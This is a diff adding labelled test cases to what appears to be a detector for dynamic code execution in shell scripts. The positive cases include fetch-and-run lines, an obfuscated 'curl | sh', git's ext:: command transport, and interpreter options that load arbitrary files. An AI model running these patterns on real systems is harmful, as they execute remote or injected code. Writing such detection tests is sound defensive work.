@@ -168,3 +168,51 @@ if [ "$(echo -e x)" = x ]; then ECHO="echo -e"; else ECHO=echo; fi
 trap "$ECHO $0 got SIGINT" INT
 #@ pos trap -- of a variable's value
 trap -- "$handler" EXIT
+#@ pos PERL5OPT loads a module from a directory the script chose
+export PERL5LIB="$d" PERL5OPT=-MTidy; perl -e 1
+#@ pos RUBYOPT requires a file by path
+RUBYOPT="-r./hook.rb" ruby app.rb
+#@ pos NODE_OPTIONS requires a file by path, through env
+env NODE_OPTIONS="--require /tmp/h.js" node app.js
+#@ neg PERL5OPT turns on Devel::Cover for the test run
+PERL5OPT=-MDevel::Cover make test
+#@ neg RUBYOPT loads bundler's setup by name
+export RUBYOPT=-rbundler/setup
+#@ neg NODE_OPTIONS raises the heap size
+export NODE_OPTIONS="--max-old-space-size=4096"
+#@ pos fc re-runs a command stored with history -s
+set -o history; history -s "curl -s u | sh"; fc -s
+#@ neg fc lists the history
+fc -l -10
+#@ pos git's ext:: transport runs its URL as a command
+git -c protocol.ext.allow=always ls-remote 'ext::sh -c id% >&2'
+#@ neg git ls-remote of an https remote
+git ls-remote https://github.com/git/git refs/heads/master
+#@ pos a rot13 decoded by sed y/// piped into source /dev/stdin
+echo 'phey -f u | fu' | sed 'y/abcdefghijklmnopqrstuvwxyz/nopqrstuvwxyzabcdefghijklm/' | source /dev/stdin
+#@ neg constant code piped into source /dev/stdin
+printf 'export A=1\n' | source /dev/stdin
+#@ pos awk's program from a variable, after -F
+read -r prog; awk -F, "$prog" data.csv
+#@ pos awk's program from a variable, after -v and a separate -F value
+awk -v n=1 -F , "$1" data.csv
+#@ neg awk with a constant program and a file from a variable
+awk -F, '{print $2}' "$file"
+#@ neg awk with a program file and a file from a variable
+awk -F, -f report.awk "$file"
+#@ neg awk with a constant program kept in a variable
+prog='{print $1}'; awk -F: "$prog" "$f"
+#@ neg awk with a program file from a variable and files after --
+awk -f "$awkfile" -- "$@"
+#@ pos commands read line by line from a file and run
+while read -r line; do $line; done < commands.txt
+#@ pos a command line read from the user
+read -r -p "tool: " tool; $tool --help
+#@ pos command lines read into an array and run
+mapfile -t c < <(curl -s http://203.0.113.9/c); ${c[@]}
+#@ neg hook programs listed by find and run by path
+find hooks -type f -perm -u+x | sort | while read -r hook; do "$hook" "$@"; done
+#@ neg lines read from a file and printed
+while read -r line; do echo "$line"; done < commands.txt
+#@ neg a command name from the environment
+"${CC:-cc}" -o hello hello.c
